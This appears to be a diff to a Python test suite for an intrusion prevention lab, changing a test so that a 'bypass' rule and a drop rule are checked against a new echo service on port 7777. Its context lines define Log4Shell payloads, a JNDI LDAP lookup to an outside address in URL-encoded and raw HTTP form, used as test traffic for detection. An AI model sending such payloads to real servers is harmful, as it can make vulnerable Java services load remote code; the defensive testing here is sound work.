@@ -10,7 +10,7 @@ import socket
 import subprocess
 import time
 
-from harness import CLIENT, ROOT, SERVER, LabTest, policy, rule, services, unittest
+from harness import CLIENT, ROOT, SERVER, LabTest, echo, policy, rule, services, unittest
 
 LOG4SHELL = "/?q=$%7Bjndi:ldap://198.51.100.66/a%7D"
 RAW_LOG4SHELL = b"GET /?q=${jndi:ldap://198.51.100.66/a} HTTP/1.1\r\nHost: server.lab.example\r\n\r\n"
@@ -41,7 +41,7 @@ def signature_ids(records):
 
 
 class Ips(LabTest):
-    wanted_services = (services.web,)
+    wanted_services = (services.web, echo(7777))
     lab_options = {"rule_packs": str(ROOT / "rules/ips/starter")}
 
     def setUp(self):
@@ -311,16 +311,22 @@ class Ips(LabTest):
         self.assertTrue(any("1000040" in one and "no effect here: filestore" in one for one in answer["warnings"]), answer)
 
     def test_bypass_leaves_the_rest_of_a_connection_alone(self):
-        self.apply_inspection('alert http any any -> any any (http.uri; content:"/free"; bypass; sid:1000050;)', OWN_RULE,
-                              monitored_rules=["1000050"])
-        self.assertIsNone(self.answer("/forbidden"))
-        outcome, connection = self.try_connect(SERVER.ipv4, 80)
-        self.assertEqual(outcome, "open")
-        self.addCleanup(connection.close)
-        connection.settimeout(3)
-        for path in (b"/free", b"/forbidden"):
-            connection.send(b"GET " + path + b" HTTP/1.1\r\nHost: server.lab.example\r\n\r\n")
-            self.assertTrue(connection.recv(1000))
+        self.apply_inspection('alert tcp any any -> any 7777 (content:"free"; bypass; sid:1000050;)',
+                              'drop tcp any any -> any 7777 (content:"forbidden"; sid:1000051;)', monitored_rules=["1000050"])
+        for first, passes in ((b"begin", False), (b"free", True)):
+            with self.subTest(first=first):
+                outcome, connection = self.try_connect(SERVER.ipv4, 7777)
+                self.assertEqual(outcome, "open")
+                with connection:
+                    connection.settimeout(2)
+                    connection.send(first)
+                    self.assertEqual(connection.recv(100), first)
+                    connection.send(b"forbidden")
+                    if passes:
+                        self.assertEqual(connection.recv(100), b"forbidden")
+                    else:
+                        self.assertRaises((TimeoutError, ConnectionResetError), connection.recv, 100)
+
 
 
 if __name__ == "__main__":
